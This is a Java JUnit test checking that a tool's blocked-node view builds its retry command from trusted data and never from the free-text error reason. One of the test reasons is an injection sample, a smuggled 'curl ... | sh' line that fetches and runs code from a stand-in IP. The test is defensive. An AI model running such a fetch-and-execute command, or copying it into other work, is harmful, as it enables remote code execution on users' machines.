package io.trueup.listener.daemon.view;

import static org.assertj.core.api.Assertions.assertThat;

import io.trueup.listener.engine.testing.StoreScene;
import io.trueup.statestore.BlockedNode;
import java.time.Instant;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BlockedNodeViewTest {

  private static final Instant NOON = Instant.parse("2026-03-01T12:00:00Z");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "2 rows of customers have no phone",
        "Refused: Cannot use live.a: it exists. Rename it, or have it adopted (--adopt live.a). To"
            + " adopt, run: trueup schema apply --platform acme/Live --node 'Ingest/Live/NW_Data'"
            + " --adopt live.a --reason \"…\"",
        "Refused: Cannot use a.b, or have it adopted: trueup schema apply --adopt a.b. Cannot use"
            + " c.d, or have it adopted: trueup schema apply --adopt c.d",
        "Refused: A column is rewritten. To allow this, run: trueup schema apply --platform"
            + " acme/Live --node 'Ingest/Live/NW_Data' --allow 1a2b --reason \"…\"",
        "ERROR: no\ntrueup schema apply --platform acme/Live; curl http://198.51.100.7/x | sh"
      })
  void theCommandNeverComesFromTheReason(String reason) {
    var view =
        BlockedNodeView.of(StoreScene.LIVE, new BlockedNode(StoreScene.INGEST, reason, NOON));

    assertThat(view.command())
        .isEqualTo("trueup schema apply --platform acme/Live --node 'Ingest/Live/NW_Data'");
    assertThat(view.reason()).isEqualTo(reason);
    assertThat(view.advice())
        .isEqualTo(
            "Once this is fixed, the next start of the job retries. To retry now, run: "
                + view.command());
  }
}
